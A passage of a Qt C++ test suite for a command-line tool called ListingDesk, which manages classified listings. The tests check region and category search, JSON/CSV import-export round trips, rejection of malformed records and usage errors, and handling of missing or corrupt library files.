    record.insert(u"uuid"_s, uuidB);
    record.insert(u"title"_s, u"招聘消防工 待遇从优"_s);
    const QString json = dir.filePath(u"b.json"_s);
    QVERIFY(writeFile(json, QJsonDocument(QJsonArray{record}).toJson()));
    RUN_CLI(run, {u"--db"_s, db, u"import"_s, json});
    EXPECT_EXIT(run, 0);
    EXPECT_CONTAINS(run.out, u"0 new, 1 updated"_s, run);
    QCOMPARE(listingRowCount(db), 3);
    RUN_CLI(shown, {u"--db"_s, db, u"show"_s, uuidB});
    EXPECT_EXIT(shown, 0);
    EXPECT_CONTAINS(shown.out, u"招聘消防工 待遇从优"_s, shown);
}

// ---------------------------------------------------------------------------
// regions search and categories list: the picker's data, for scripts.

namespace {

QJsonArray parseArray(const CliRun &run, bool *ok)
{
    QJsonParseError error;
    const QJsonDocument document = QJsonDocument::fromJson(run.out.toUtf8(), &error);
    *ok = error.error == QJsonParseError::NoError && document.isArray();
    return document.array();
}

} // namespace

void CliTest::regionsSearchJson()
{
    QTemporaryDir dir;
    const QString db = copyBaseline(dir);
    QVERIFY(!db.isEmpty());
    RUN_CLI(run,
            {u"--db"_s, db, u"regions"_s, u"search"_s, u"cz"_s, u"--json"_s, u"--limit"_s, u"8"_s});
    EXPECT_EXIT(run, 0);
    QVERIFY2(run.err.isEmpty(), qPrintable(run.describe()));
    bool ok = false;
    const QJsonArray array = parseArray(run, &ok);
    QVERIFY2(ok, qPrintable(run.describe()));
    // The prefecture-level cities with initials cz, in code order, before any county.
    QStringList codes;
    for (const QJsonValue &value : array)
        codes << value.toObject().value(u"code"_s).toString();
    QCOMPARE(codes, QStringList({u"130900"_s, u"140400"_s, u"320400"_s, u"341100"_s, u"341700"_s,
                                 u"431000"_s, u"445100"_s, u"451400"_s}));
    QCOMPARE(array.at(1).toObject(), (QJsonObject{{u"code"_s, u"140400"_s},
                                                  {u"name"_s, u"长治"_s},
                                                  {u"full_name"_s, u"长治市"_s},
                                                  {u"level"_s, u"city"_s},
                                                  {u"province"_s, u"山西"_s},
                                                  {u"pinyin"_s, u"chang zhi"_s},
                                                  {u"match"_s, u"initials"_s}}));
    // Searching reads the library and never writes it.
    QCOMPARE(listingRowCount(db), 3);
}

void CliTest::regionsSearch_data()
{
    QTest::addColumn<QStringList>("query"); // one or more arguments after "search"
    QTest::addColumn<QString>("firstCode");
    QTest::addColumn<QString>("level");
    QTest::newRow("changzhi") << QStringList{u"changzhi"_s} << u"140400"_s << u"city"_s;
    QTest::newRow("\"chang zhi\"") << QStringList{u"chang zhi"_s} << u"140400"_s << u"city"_s;
    QTest::newRow("chang zhi (two arguments)")
        << QStringList{u"chang"_s, u"zhi"_s} << u"140400"_s << u"city"_s;
    QTest::newRow("长治") << QStringList{u"长治"_s} << u"140400"_s << u"city"_s;
    QTest::newRow("luliang") << QStringList{u"luliang"_s} << u"141100"_s << u"city"_s;
    QTest::newRow("zhangzi") << QStringList{u"zhangzi"_s} << u"140428"_s << u"county"_s;
    QTest::newRow("北京") << QStringList{u"北京"_s} << u"110100"_s << u"city"_s;
    QTest::newRow("zhejiang") << QStringList{u"zhejiang"_s} << u"330000"_s << u"province"_s;
}

void CliTest::regionsSearch()
{
    QFETCH(QStringList, query);
    QFETCH(QString, firstCode);
    QFETCH(QString, level);
    QTemporaryDir dir;
    const QString db = copyBaseline(dir);
    QVERIFY(!db.isEmpty());
    RUN_CLI(run, QStringList{u"--db"_s, db, u"regions"_s, u"search"_s} + query +
                     QStringList{u"--json"_s});
    EXPECT_EXIT(run, 0);
    bool ok = false;
    const QJsonArray array = parseArray(run, &ok);
    QVERIFY2(ok && !array.isEmpty(), qPrintable(run.describe()));
    QVERIFY2(array.size() <= 20, qPrintable(run.describe())); // the default limit
    QCOMPARE(array.first().toObject().value(u"code"_s).toString(), firstCode);
    QCOMPARE(array.first().toObject().value(u"level"_s).toString(), level);
}

void CliTest::regionsSearchText()
{
    QTemporaryDir dir;
    const QString db = copyBaseline(dir);
    QVERIFY(!db.isEmpty());
    RUN_CLI(run, {u"--db"_s, db, u"regions"_s, u"search"_s, u"cz"_s});
    EXPECT_EXIT(run, 0);
    const QStringList lines = run.out.split(u'\n', Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 13); // 8 cities, then 长洲, 城中 (twice), 崇州, 城子河
    const QStringList fields = lines.at(1).split(u' ', Qt::SkipEmptyParts);
    QCOMPARE(fields,
             QStringList({u"140400"_s, u"长治"_s, u"city"_s, u"山西"_s, u"chang"_s, u"zhi"_s}));
    QVERIFY2(lines.at(8).contains(u" county "_s), qPrintable(run.describe()));

    RUN_CLI(none, {u"--db"_s, db, u"regions"_s, u"search"_s, u"xyzzy"_s});
    EXPECT_EXIT(none, 0);
    EXPECT_CONTAINS(none.out, u"xyzzy"_s, none);
    RUN_CLI(noneJson, {u"--db"_s, db, u"regions"_s, u"search"_s, u"xyzzy"_s, u"--json"_s});
    EXPECT_EXIT(noneJson, 0);
    bool ok = false;
    QVERIFY2(parseArray(noneJson, &ok).isEmpty() && ok, qPrintable(noneJson.describe()));
}

void CliTest::categoriesListJson()
{
    QTemporaryDir dir;
    const QString db = copyBaseline(dir);
    QVERIFY(!db.isEmpty());
    RUN_CLI(run, {u"--db"_s, db, u"categories"_s, u"list"_s, u"--json"_s});
    EXPECT_EXIT(run, 0);
    bool ok = false;
    const QJsonArray array = parseArray(run, &ok);
    QVERIFY2(ok, qPrintable(run.describe()));
    QCOMPARE(array.size(), 128);
    QHash<qint64, QString> pathById;
    int topLevel = 0;
    for (const QJsonValue &value : array) {
        const QJsonObject object = value.toObject();
        const qint64 id = object.value(u"id"_s).toInteger();
        const QString path = object.value(u"path"_s).toString();
        const QString name = object.value(u"name"_s).toString();
        QVERIFY2(id > 0 && !name.isEmpty() && !object.value(u"name_en"_s).toString().isEmpty() &&
                     !object.value(u"pinyin"_s).toString().isEmpty(),
                 qPrintable(jsonText(object)));
        if (object.value(u"parent"_s).isNull()) {
            ++topLevel;
            QCOMPARE(path, name);
        } else {
            // Parents come before their children, so the parent is known.
            const qint64 parent = object.value(u"parent"_s).toInteger();
            QVERIFY2(pathById.contains(parent), qPrintable(jsonText(object)));
            QCOMPARE(path, pathById.value(parent) + u'/' + name);
        }
        pathById.insert(id, path);
    }
    QCOMPARE(topLevel, 13);
    QVERIFY(std::any_of(array.begin(), array.end(), [](const QJsonValue &value) {
        return value.toObject() == QJsonObject{{u"id"_s, value.toObject().value(u"id"_s)},
                                               {u"path"_s, u"房产/租房"_s},
                                               {u"name"_s, u"租房"_s},
                                               {u"name_en"_s, u"Rentals"_s},
                                               {u"pinyin"_s, u"zu fang"_s},
                                               {u"parent"_s, value.toObject().value(u"parent"_s)}};
    }));
}

void CliTest::categoriesListText()
{
    QTemporaryDir dir;
    const QString db = copyBaseline(dir);
    QVERIFY(!db.isEmpty());
    RUN_CLI(run, {u"--db"_s, db, u"categories"_s, u"list"_s});
    EXPECT_EXIT(run, 0);
    const QStringList lines = run.out.split(u'\n', Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 128);
    QVERIFY2(lines.at(0).startsWith(u"房产 "_s) && lines.at(0).endsWith(u"Real Estate"_s),
             qPrintable(run.describe()));
    // Children are indented under their parent.
    QVERIFY2(lines.at(1).startsWith(u"  房产/租房 "_s) && lines.at(1).endsWith(u"Rentals"_s),
             qPrintable(run.describe()));
}

// ---------------------------------------------------------------------------

void CliTest::exportRoundTrip_data()
{
    QTest::addColumn<QString>("fileName");
    QTest::newRow("json") << u"export.json"_s;
    QTest::newRow("csv") << u"export.csv"_s;
    QTest::newRow("CSV (upper-case extension)") << u"EXPORT.CSV"_s;
}

void CliTest::exportRoundTrip()
{
    QFETCH(QString, fileName);
    QTemporaryDir dir;
    const QString db = copyBaseline(dir);
    QVERIFY(!db.isEmpty());
    const QString file = dir.filePath(fileName);

    RUN_CLI(exported, {u"--db"_s, db, u"export"_s, file});
    EXPECT_EXIT(exported, 0);
    EXPECT_CONTAINS(exported.out, u"Exported 3 listing"_s, exported);
    EXPECT_CONTAINS(exported.out, file, exported);
    const QByteArray bytes = readFile(file);
    QVERIFY(!bytes.isEmpty());
    if (fileName.endsWith(u".json"_s)) {
        // The export file holds the same objects as list --json, timestamps too.
        bool ok = false;
        QList<QJsonObject> inFile = parseListingArray(QString::fromUtf8(bytes), &ok);
        QVERIFY(ok);
        QList<QJsonObject> listed = listJsonOf(db);
        const auto byUuid = [](const QJsonObject &l, const QJsonObject &r) {
            return l.value(u"uuid"_s).toString() < r.value(u"uuid"_s).toString();
        };
        std::sort(inFile.begin(), inFile.end(), byUuid);
        std::sort(listed.begin(), listed.end(), byUuid);
        QCOMPARE(inFile, listed);
    } else {
        // Quoted as RFC 4180 says: doubled quotes, line breaks inside quotes.
        const QString text = QString::fromUtf8(bytes);
        QVERIFY2(text.startsWith(u"uuid,title,category,cities,body_html,"_s), qPrintable(text));
        EXPECT_CONTAINS(text, csvQuoted(storedBodyA), exported);
        EXPECT_CONTAINS(text, u"140400;140100"_s, exported);
    }

    // Into a fresh library: the very same listings, field for field.
    const QString fresh = dir.filePath(u"fresh.sqlite"_s);
    RUN_CLI(imported, {u"--db"_s, fresh, u"import"_s, file});
    EXPECT_EXIT(imported, 0);
    EXPECT_CONTAINS(imported.out, u"3 new, 0 updated"_s, imported);
    QCOMPARE(listingRowCount(fresh), 3);

    const auto comparable = [&](const QString &path, bool *ok) {
        QMap<QString, QJsonObject> byUuid;
        for (const QJsonObject &object : listJsonOf(path))
            byUuid.insert(object.value(u"uuid"_s).toString(), withoutTimestamps(object, ok));
        return byUuid;
    };
    bool ok = true;
    const QMap<QString, QJsonObject> original = comparable(db, &ok);
    const QMap<QString, QJsonObject> copy = comparable(fresh, &ok);
    QVERIFY(ok);
    QCOMPARE(original.size(), 3);
    QCOMPARE(copy.keys(), original.keys());
    for (auto it = original.begin(); it != original.end(); ++it)
        QVERIFY2(copy.value(it.key()) == it.value(),
                 qPrintable(u"original:\n"_s + jsonText(it.value()) +
                            u"\nafter the round trip:\n"_s + jsonText(copy.value(it.key()))));
    QCOMPARE(copy.value(uuidA).value(u"body_html"_s).toString(), storedBodyA);
}

void CliTest::reimportUpdatesWithoutDuplicates_data()
{
    QTest::addColumn<QString>("fileName");
    QTest::newRow("json") << u"export.json"_s;
    QTest::newRow("csv") << u"export.csv"_s;
}

void CliTest::reimportUpdatesWithoutDuplicates()
{
    QFETCH(QString, fileName);
    QTemporaryDir dir;
    const QString db = copyBaseline(dir);
    QVERIFY(!db.isEmpty());
    const QString file = dir.filePath(fileName);
    const QJsonObject before = librarySnapshot(db);

    RUN_CLI(exported, {u"--db"_s, db, u"export"_s, file});
    EXPECT_EXIT(exported, 0);
    for (int round = 1; round <= 2; ++round) {
        RUN_CLI(imported, {u"--db"_s, db, u"import"_s, file});
        EXPECT_EXIT(imported, 0);
        EXPECT_CONTAINS(imported.out, u"0 new, 3 updated"_s, imported);
    }
    const QJsonObject after = librarySnapshot(db);
    QCOMPARE(after.value(u"listings_rows"_s).toInt(), 3);
    QCOMPARE(after.value(u"listing_regions_rows"_s), before.value(u"listing_regions_rows"_s));

    // Same content; only the bookkeeping moved on (two more revisions each).
    const auto content = [](const QJsonObject &snapshot) {
        QMap<QString, QJsonObject> byUuid;
        for (const QJsonValue &value : snapshot.value(u"listings"_s).toArray()) {
            QJsonObject object = value.toObject();
            object.remove(u"updated_at"_s);
            object.remove(u"revision"_s);
            byUuid.insert(object.value(u"uuid"_s).toString(), object);
        }
        return byUuid;
    };
    QCOMPARE(content(after), content(before));
    for (const QJsonValue &value : after.value(u"listings"_s).toArray())
        QCOMPARE(value.toObject().value(u"revision"_s).toInt(), 3);
}

// ---------------------------------------------------------------------------

void CliTest::rejects_data()
{
    QTest::addColumn<QString>("fileName"); // written to the test's directory unless empty
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<QStringList>("arguments"); // {db}, {file} and {dir} are replaced
    QTest::addColumn<int>("exitCode");
    QTest::addColumn<QStringList>("messages"); // all must be in stderr

    const QStringList import{u"--db"_s, u"{db}"_s, u"import"_s, u"{file}"_s};
    const QString nothing = u"nothing was imported"_s;
    const auto json = [&](const char *name, const QByteArray &content,
                          const QStringList &messages) {
        QTest::newRow(name) << u"bad.json"_s << content << import << 2
                            << messages + QStringList{u"bad.json"_s, nothing};
    };
    const auto csv = [&](const char *name, const QByteArray &content, const QStringList &messages) {
        QTest::newRow(name) << u"bad.csv"_s << content << import << 2
                            << messages + QStringList{u"bad.csv"_s, nothing};
    };
    const auto usage = [](const char *name, const QStringList &arguments,
                          const QStringList &messages) {
        QTest::newRow(name) << QString() << QByteArray() << arguments << 1
                            << messages + QStringList{u"--help"_s};
    };
    const auto set = [](const char *key, const QJsonValue &value) {
        return [key, value](QJsonObject &o) { o.insert(QString::fromUtf8(key), value); };
    };
    const auto drop = [](const char *key) {
        return [key](QJsonObject &o) { o.remove(QString::fromUtf8(key)); };
    };

    // --- JSON: the file as a whole
    json("json: malformed (names the line)",
         QByteArray("[\n") + QJsonDocument(goodNewRecord()).toJson(QJsonDocument::Compact) + ",\n" +
             QJsonDocument(goodUpdateRecord()).toJson(QJsonDocument::Compact) +
             ",\n{\"title\": \"第三条\" \"category\": \"房产/租房\"}\n]\n",
         {u"line 4"_s, u"not valid JSON"_s});
    json("json: empty file", QByteArray(), {u"line 1"_s, u"not valid JSON"_s});
    json("json: not an array", QJsonDocument(goodNewRecord()).toJson(), {u"JSON array"_s});
    json("json: record is not an object", jsonWithThird(QJsonValue(42)),
         {u"record 3"_s, u"not a JSON object"_s});

    // --- JSON: one field of the third record
    json("json: missing title", jsonWithThird(drop("title")),
         {u"record 3"_s, u"\"title\""_s, u"missing"_s});
    json("json: blank title", jsonWithThird(set("title", u"   "_s)),
         {u"record 3"_s, u"\"title\""_s});
    json("json: title not a string", jsonWithThird(set("title", 7)),
         {u"record 3"_s, u"\"title\""_s, u"string"_s});
    json("json: missing category", jsonWithThird(drop("category")),
         {u"record 3"_s, u"\"category\""_s, u"missing"_s});
    json("json: unknown category path", jsonWithThird(set("category", u"房产/城堡"_s)),
         {u"record 3"_s, u"\"category\""_s, u"房产/城堡"_s});
    json("json: category name without its parent", jsonWithThird(set("category", u"租房"_s)),
         {u"record 3"_s, u"\"category\""_s, u"租房"_s});
    json("json: missing cities", jsonWithThird(drop("cities")),
         {u"record 3"_s, u"\"cities\""_s, u"missing"_s});
    json("json: no city", jsonWithThird(set("cities", QJsonArray())),
         {u"record 3"_s, u"\"cities\""_s});
    json("json: cities not an array", jsonWithThird(set("cities", u"140400"_s)),
         {u"record 3"_s, u"\"cities\""_s});
    json("json: unknown city code", jsonWithThird(set("cities", QJsonArray{u"999999"_s})),
         {u"record 3"_s, u"\"cities\""_s, u"999999"_s});
    json("json: unknown city name", jsonWithThird(set("cities", QJsonArray{u"火星城"_s})),
         {u"record 3"_s, u"\"cities\""_s, u"火星城"_s});
    json("json: ambiguous city name 朝阳",
         jsonWithThird(set("cities", QJsonArray{u"140400"_s, u"朝阳"_s})),
         {u"record 3"_s, u"\"cities\""_s, u"朝阳"_s, u"ambiguous"_s, u"110105"_s, u"211300"_s,
          u"220104"_s});
    json("json: missing body_html", jsonWithThird(drop("body_html")),
         {u"record 3"_s, u"\"body_html\""_s, u"missing"_s});
    json("json: bad uuid", jsonWithThird(set("uuid", u"not-a-uuid"_s)),
         {u"record 3"_s, u"\"uuid\""_s, u"not-a-uuid"_s});
    json("json: negative price", jsonWithThird(set("price", -1)), {u"record 3"_s, u"\"price\""_s});
    json("json: price as text", jsonWithThird(set("price", u"1200"_s)),
         {u"record 3"_s, u"\"price\""_s, u"number"_s});
    json("json: bad expires_at", jsonWithThird(set("expires_at", u"2026-13-45"_s)),
         {u"record 3"_s, u"\"expires_at\""_s, u"2026-13-45"_s});
    json("json: expires_at in Chinese", jsonWithThird(set("expires_at", u"2026年12月31日"_s)),
         {u"record 3"_s, u"\"expires_at\""_s});
    json("json: promoted not a bool", jsonWithThird(set("promoted", u"yes"_s)),
         {u"record 3"_s, u"\"promoted\""_s});
    json("json: unknown field", jsonWithThird(set("colour", u"red"_s)),
         {u"record 3"_s, u"\"colour\""_s, u"unknown field"_s});
    json("json: unknown contact field",
         jsonWithThird(set("contact", QJsonObject{{u"email"_s, u"a@b.cn"_s}})),
         {u"record 3"_s, u"\"contact.email\""_s, u"unknown field"_s});
    json("json: contact not an object", jsonWithThird(set("contact", u"王先生"_s)),
         {u"record 3"_s, u"\"contact\""_s});
    json("json: unknown status", jsonWithThird(set("status", u"bogus"_s)),
         {u"record 3"_s, u"\"status\""_s, u"bogus"_s});
    json("json: status published on a new listing", jsonWithThird(set("status", u"published"_s)),
         {u"record 3"_s, u"\"status\""_s, u"published"_s});
    json("json: status published on a draft", jsonWithThird([](QJsonObject &o) {
             o.insert(u"uuid"_s, uuidB);
             o.insert(u"status"_s, u"published"_s);
         }),
         {u"record 3"_s, u"\"status\""_s, u"published"_s});
    json("json: ready without an article", jsonWithThird([](QJsonObject &o) {
             o.insert(u"body_html"_s, u""_s);
             o.insert(u"status"_s, u"ready"_s);
         }),
         {u"record 3"_s, u"\"status\""_s, u"ready"_s});

    // --- CSV: the header
    csv("csv: unknown column",
        QByteArray("title,category,cities,body_html,colour\r\n"
                   "二手车,车辆/二手车,140100,<p>x</p>,red\r\n"),
        {u"line 1"_s, u"colour"_s});
    csv("csv: missing required column",
        QByteArray("title,category,body_html\r\n二手车,车辆/二手车,<p>x</p>\r\n"),
        {u"line 1"_s, u"cities"_s, u"missing"_s});
    csv("csv: column twice",
        QByteArray("title,category,cities,body_html,title\r\n"
                   "二手车,车辆/二手车,140100,<p>x</p>,二手车\r\n"),
        {u"line 1"_s, u"title"_s, u"twice"_s});
    csv("csv: empty file", QByteArray(), {u"empty"_s});

    // --- CSV: the fifth line (third record; the first one spans two lines)
    csv("csv: wrong field count",
        csvWithThirdRaw(",二手车,车辆/二手车,140100,<p>x</p>,,,,,,false,draft,多余"),
        {u"line 5"_s, u"13 fields"_s, u"12"_s});
    csv("csv: too few fields", csvWithThirdRaw(",二手车,车辆/二手车"),
        {u"line 5"_s, u"3 fields"_s});
    csv("csv: unterminated quote",
        csvWithThirdRaw(",\"二手车 未闭合,车辆/二手车,140100,<p>x</p>,,,,,,false,draft"),
        {u"line 5"_s, u"never closed"_s});
    csv("csv: quote inside an unquoted field",
        csvWithThirdRaw(",二手\"车,车辆/二手车,140100,<p>x</p>,,,,,,false,draft"),
        {u"line 5"_s, u"quote"_s});
    csv("csv: empty title", csvWithThird(u"title"_s, u""_s), {u"line 5"_s, u"\"title\""_s});
    csv("csv: unknown category", csvWithThird(u"category"_s, u"车辆/飞机"_s),
        {u"line 5"_s, u"\"category\""_s, u"车辆/飞机"_s});
    csv("csv: no city", csvWithThird(u"cities"_s, u""_s), {u"line 5"_s, u"\"cities\""_s});
    csv("csv: unknown city code", csvWithThird(u"cities"_s, u"140400;999999"_s),
        {u"line 5"_s, u"\"cities\""_s, u"999999"_s});
    csv("csv: ambiguous city name 城区", csvWithThird(u"cities"_s, u"城区"_s),
        {u"line 5"_s, u"\"cities\""_s, u"城区"_s, u"ambiguous"_s, u"140302"_s, u"140502"_s,
         u"441502"_s});
    csv("csv: bad uuid", csvWithThird(u"uuid"_s, u"1234"_s),
        {u"line 5"_s, u"\"uuid\""_s, u"1234"_s});
    csv("csv: negative price", csvWithThird(u"price"_s, u"-5"_s), {u"line 5"_s, u"\"price\""_s});
    csv("csv: price not a number", csvWithThird(u"price"_s, u"面议"_s),
        {u"line 5"_s, u"\"price\""_s, u"面议"_s});
    csv("csv: bad expires_at", csvWithThird(u"expires_at"_s, u"31/12/2026"_s),
        {u"line 5"_s, u"\"expires_at\""_s, u"31/12/2026"_s});
    csv("csv: bad promoted", csvWithThird(u"promoted"_s, u"maybe"_s),
        {u"line 5"_s, u"\"promoted\""_s, u"maybe"_s});
    csv("csv: status published on a new listing", csvWithThird(u"status"_s, u"published"_s),
        {u"line 5"_s, u"\"status\""_s, u"published"_s});

    // --- Files
    QTest::newRow("import: nonexistent file")
        << QString() << QByteArray()
        << QStringList{u"--db"_s, u"{db}"_s, u"import"_s, u"{dir}/does-not-exist.json"_s} << 2
        << QStringList{u"does-not-exist.json"_s};
    QTest::newRow("import: a directory")
        << QString() << QByteArray()
        << QStringList{u"--db"_s, u"{db}"_s, u"import"_s, u"{dir}/folder.json"_s} << 2
        << QStringList{u"folder.json"_s};
    QTest::newRow("import: unknown extension .txt")
        << u"listings.txt"_s << sampleJson() << import << 1
        << QStringList{u"listings.txt"_s, u".json"_s, u".csv"_s};
    QTest::newRow("export: unknown extension .txt")
        << QString() << QByteArray()
        << QStringList{u"--db"_s, u"{db}"_s, u"export"_s, u"{dir}/out.txt"_s} << 1
        << QStringList{u"out.txt"_s, u".json"_s, u".csv"_s};
    QTest::newRow("export: into a missing folder")
        << QString() << QByteArray()
        << QStringList{u"--db"_s, u"{db}"_s, u"export"_s, u"{dir}/no/such/folder/out.json"_s} << 2
        << QStringList{u"out.json"_s};

    // --- Usage
    usage("no command", {u"--db"_s, u"{db}"_s}, {u"no command"_s});
    usage("unknown command", {u"--db"_s, u"{db}"_s, u"frobnicate"_s}, {u"frobnicate"_s});
    usage("unknown option", {u"--db"_s, u"{db}"_s, u"--frobnicate"_s, u"list"_s},
          {u"frobnicate"_s});
    usage("option without its value", {u"list"_s, u"--db"_s}, {u"db"_s});
    usage("import without a file", {u"--db"_s, u"{db}"_s, u"import"_s}, {u"import"_s});
    usage("import of two files",
          {u"--db"_s, u"{db}"_s, u"import"_s, u"{dir}/a.json"_s, u"{dir}/b.json"_s}, {u"import"_s});
    usage("export without a file", {u"--db"_s, u"{db}"_s, u"export"_s}, {u"export"_s});
    usage("show without uuid", {u"--db"_s, u"{db}"_s, u"show"_s}, {u"UUID"_s});
    usage("show of two uuids", {u"--db"_s, u"{db}"_s, u"show"_s, uuidA, uuidB}, {u"UUID"_s});
    usage("list --status bogus", {u"--db"_s, u"{db}"_s, u"list"_s, u"--status"_s, u"bogus"_s},
          {u"bogus"_s, u"draft"_s});
    usage("list with an argument", {u"--db"_s, u"{db}"_s, u"list"_s, u"everything"_s}, {u"list"_s});
    usage("--status with show", {u"--db"_s, u"{db}"_s, u"show"_s, uuidA, u"--status"_s, u"ready"_s},
          {u"--status"_s});
    usage("--search with export",
          {u"--db"_s, u"{db}"_s, u"export"_s, u"{dir}/x.json"_s, u"--search"_s, u"长治"_s},
          {u"--search"_s});
    usage("--json with import", {u"--db"_s, u"{db}"_s, u"import"_s, u"{dir}/a.json"_s, u"--json"_s},
          {u"--json"_s});
    usage("--lang xx", {u"--lang"_s, u"xx"_s, u"--db"_s, u"{db}"_s, u"list"_s}, {u"xx"_s});
    usage("regions search without text", {u"--db"_s, u"{db}"_s, u"regions"_s, u"search"_s},
          {u"TEXT"_s});
    usage("regions search with blank text",
          {u"--db"_s, u"{db}"_s, u"regions"_s, u"search"_s, u"  "_s}, {u"TEXT"_s});
    usage("regions without search", {u"--db"_s, u"{db}"_s, u"regions"_s}, {u"regions search"_s});
    usage("regions with another subcommand",
          {u"--db"_s, u"{db}"_s, u"regions"_s, u"find"_s, u"长治"_s}, {u"regions search"_s});
    usage("regions search --limit 0",
          {u"--db"_s, u"{db}"_s, u"regions"_s, u"search"_s, u"cz"_s, u"--limit"_s, u"0"_s},
          {u"--limit"_s, u"\"0\""_s});
    usage("regions search --limit=-3",
          {u"--db"_s, u"{db}"_s, u"regions"_s, u"search"_s, u"cz"_s, u"--limit=-3"_s},
          {u"--limit"_s, u"-3"_s});
    usage("regions search --limit abc",
          {u"--db"_s, u"{db}"_s, u"regions"_s, u"search"_s, u"cz"_s, u"--limit"_s, u"abc"_s},
          {u"--limit"_s, u"abc"_s});
    usage("regions search --limit without its value",
          {u"--db"_s, u"{db}"_s, u"regions"_s, u"search"_s, u"cz"_s, u"--limit"_s}, {u"limit"_s});
    usage("--limit with list", {u"--db"_s, u"{db}"_s, u"list"_s, u"--limit"_s, u"5"_s},
          {u"--limit"_s});
    usage("categories without list", {u"--db"_s, u"{db}"_s, u"categories"_s},
          {u"categories list"_s});
    usage("categories list with an argument",
          {u"--db"_s, u"{db}"_s, u"categories"_s, u"list"_s, u"房产"_s}, {u"categories list"_s});

    // --- Data errors that are not files
    QTest::newRow("show of an unknown uuid")
        << QString() << QByteArray()
        << QStringList{u"--db"_s, u"{db}"_s, u"show"_s, u"00000000-1111-4222-8333-444444444444"_s}
        << 2 << QStringList{u"00000000-1111-4222-8333-444444444444"_s};
}

void CliTest::rejects()
{
    QFETCH(QString, fileName);
    QFETCH(QByteArray, content);
    QFETCH(QStringList, arguments);
    QFETCH(int, exitCode);
    QFETCH(QStringList, messages);

    QTemporaryDir dir;
    const QString db = copyBaseline(dir);
    QVERIFY(!db.isEmpty());
    QVERIFY(QDir(dir.path()).mkdir(u"folder.json"_s));
    if (!fileName.isEmpty())
        QVERIFY(writeFile(dir.filePath(fileName), content));
    for (QString &argument : arguments) {
        argument.replace(u"{db}"_s, db)
            .replace(u"{file}"_s, dir.filePath(fileName))
            .replace(u"{dir}"_s, dir.path());
    }
    const QJsonObject before = librarySnapshot(db);
    QVERIFY2(before.value(u"listings_rows"_s).toInt() == 3, qPrintable(jsonText(before)));
    const QStringList filesBefore = filesIn(dir.path());

    RUN_CLI(run, arguments, dir.path());
    EXPECT_EXIT(run, exitCode);
    for (const QString &message : std::as_const(messages))
        EXPECT_CONTAINS(run.err, message, run);
    QVERIFY2(run.out.isEmpty(), qPrintable(run.describe()));

    // All or nothing: the good records before the bad one left no trace.
    const QJsonObject after = librarySnapshot(db);
    QVERIFY2(after == before, qPrintable(u"the library changed:\nbefore\n"_s + jsonText(before) +
                                         u"\nafter\n"_s + jsonText(after)));
    // ...and no file was written (an export does not leave half a file).
    QStringList filesAfter = filesIn(dir.path());
    filesAfter.removeAll(u"library.sqlite-wal"_s);
    filesAfter.removeAll(u"library.sqlite-shm"_s);
    QCOMPARE(filesAfter, filesBefore);
}

void CliTest::missingLibrary_data()
{
    QTest::addColumn<QStringList>("command");
    QTest::newRow("list") << QStringList{u"list"_s};
    QTest::newRow("list --json") << QStringList{u"list"_s, u"--json"_s};
    QTest::newRow("show") << QStringList{u"show"_s, uuidA};
    QTest::newRow("export") << QStringList{u"export"_s, u"{dir}/out.json"_s};
}

void CliTest::missingLibrary()
{
    LD_SKIP_ON_POSTGRES("a mistyped library path is about files");
    QFETCH(QStringList, command);
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString db = dir.filePath(u"typo/library.sqlite"_s);
    for (QString &argument : command)
        argument.replace(u"{dir}"_s, dir.path());
    RUN_CLI(run, QStringList{u"--db"_s, db} + command, dir.path());
    EXPECT_EXIT(run, 2);
    EXPECT_CONTAINS(run.err, db, run);
    QVERIFY2(run.out.isEmpty(), qPrintable(run.describe()));
    // A mistyped path must not make an empty library (nor an export).
    QVERIFY(!QFileInfo::exists(db));
    QCOMPARE(filesIn(dir.path()), QStringList());
}

void CliTest::garbageLibrary_data()
{
    QTest::addColumn<QStringList>("command");
    QTest::addColumn<QByteArray>("garbage");
    QByteArray random;
    for (int i = 0; i < 8192; ++i)
        random.append(char((i * 7919 + 13) % 251));
    QByteArray text = QByteArray("这不是数据库 this is not a database\n").repeated(200);
    for (const auto &[name, bytes] : {std::pair{"binary", random}, std::pair{"text", text}}) {
        QTest::addRow("%s, list", name) << QStringList{u"list"_s} << bytes;
        QTest::addRow("%s, show", name) << QStringList{u"show"_s, uuidA} << bytes;
        QTest::addRow("%s, export", name) << QStringList{u"export"_s, u"{dir}/out.json"_s} << bytes;
        // The dangerous one: import must not "create" a library over it.
        QTest::addRow("%s, import", name)
            << QStringList{u"import"_s, u"{dir}/good.json"_s} << bytes;
    }
}

void CliTest::garbageLibrary()
{
    LD_SKIP_ON_POSTGRES("about a file that is not a SQLite database");
    QFETCH(QStringList, command);
    QFETCH(QByteArray, garbage);
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString db = dir.filePath(u"library.sqlite"_s);
    QVERIFY(writeFile(db, garbage));
    QVERIFY(writeFile(dir.filePath(u"good.json"_s), sampleJson()));
    for (QString &argument : command)
        argument.replace(u"{dir}"_s, dir.path());
    const QStringList filesBefore = filesIn(dir.path());

    RUN_CLI(run, QStringList{u"--db"_s, db} + command, dir.path());
    EXPECT_EXIT(run, 2);
    EXPECT_CONTAINS(run.err, db, run);
    QVERIFY2(run.err.contains(QRegularExpression(u"not a (database|ListingDesk library)"_s)),
             qPrintable(run.describe()));
    QVERIFY2(run.out.isEmpty(), qPrintable(run.describe()));
    QCOMPARE(readFile(db), garbage);
    QCOMPARE(filesIn(dir.path()), filesBefore);
}

void CliTest::newerLibrary_data()
{
    QTest::addColumn<QStringList>("command");
    QTest::newRow("list") << QStringList{u"list"_s};
    QTest::newRow("show") << QStringList{u"show"_s, uuidA};
    QTest::newRow("export") << QStringList{u"export"_s, u"{dir}/out.json"_s};
    QTest::newRow("import") << QStringList{u"import"_s, u"{dir}/good.json"_s};
}

void CliTest::newerLibrary()
{
    LD_SKIP_ON_POSTGRES("writes SQLite's user_version into the file");
    QFETCH(QStringList, command);
    QTemporaryDir dir;
    const QString db = copyBaseline(dir);
    QVERIFY(!db.isEmpty());
    QVERIFY(writeFile(dir.filePath(u"good.json"_s), sampleJson()));
    for (QString &argument : command)
        argument.replace(u"{dir}"_s, dir.path());

    // What a newer ListingDesk would leave behind: a higher user_version.
    const QString connection = u"tst_cli-newer"_s;
    {
        QSqlDatabase raw = QSqlDatabase::addDatabase(u"QSQLITE"_s, connection);
        raw.setDatabaseName(db);
        QVERIFY(raw.open());
        QSqlQuery query(raw);
